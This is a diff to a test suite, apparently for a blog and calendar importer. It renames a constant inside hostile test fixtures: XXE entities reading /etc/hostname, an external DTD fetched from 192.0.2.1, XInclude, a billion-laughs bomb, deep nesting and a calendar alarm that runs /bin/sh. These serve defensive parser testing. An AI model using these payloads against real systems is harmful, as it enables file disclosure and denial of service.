@@ -22,7 +22,7 @@ ITEM = (
     "<wp:post_date_gmt>2024-03-01 10:00:00</wp:post_date_gmt><wp:status>publish</wp:status>"
     "<wp:post_type>post</wp:post_type></item>"
 )
-ELSEWHERE = "/etc/hostname"
+OUTSIDE = "/etc/hostname"
 LAUGHS = (
     '<!DOCTYPE rss [<!ENTITY a "ha">'
     + "".join(
@@ -113,7 +113,7 @@ CALENDARS = {
     ),
     "C02-things-to-fetch-and-to-run": Case(
         calendar(event(
-            f"ATTACH:http://192.0.2.1/x\r\nATTACH:file://{ELSEWHERE}\r\nBEGIN:VALARM\r\n"
+            f"ATTACH:http://192.0.2.1/x\r\nATTACH:file://{OUTSIDE}\r\nBEGIN:VALARM\r\n"
             "ACTION:PROCEDURE\r\nATTACH:file:///bin/sh\r\nEND:VALARM\r\n"
         ))
     ),
@@ -166,13 +166,13 @@ DOCUMENTS = {
         blog("&a;" * 20_000, f'<!DOCTYPE rss [<!ENTITY a "{"x" * 2000}">]>'), stored=1, accounts=0
     ),
     "C05-file": Case(
-        blog("&a;", f'<!DOCTYPE rss [<!ENTITY a SYSTEM "file://{ELSEWHERE}">]>'), stored=1, accounts=0
+        blog("&a;", f'<!DOCTYPE rss [<!ENTITY a SYSTEM "file://{OUTSIDE}">]>'), stored=1, accounts=0
     ),
     "C05-dtd-elsewhere": Case(
         blog("&a;", '<!DOCTYPE rss SYSTEM "http://192.0.2.1/x.dtd">'), stored=1, accounts=0
     ),
     "C05-parameter-entity": Case(
-        blog("x", f'<!DOCTYPE rss [<!ENTITY % a SYSTEM "file://{ELSEWHERE}"> %a;]>'),
+        blog("x", f'<!DOCTYPE rss [<!ENTITY % a SYSTEM "file://{OUTSIDE}"> %a;]>'),
         stored=1, accounts=0,
     ),
     "C05-200,000-deep": Case(blog("<b>" * 200_000 + "</b>" * 200_000), refused="too-deep"),
@@ -180,7 +180,7 @@ DOCUMENTS = {
         blog("&j;", LAUGHS).decode().replace("UTF-8", "UTF-16").encode("utf-16"), refused="unknown"
     ),
     "C05-xinclude": Case(
-        blog(f'<xi:include href="file://{ELSEWHERE}" parse="text"/>'), stored=1, accounts=0
+        blog(f'<xi:include href="file://{OUTSIDE}" parse="text"/>'), stored=1, accounts=0
     ),
     "C05-huge-attribute": Case(blog(f'<b a="{"x" * 20_000_000}"/>'), stored=1, accounts=0),
 }  # fmt: skip
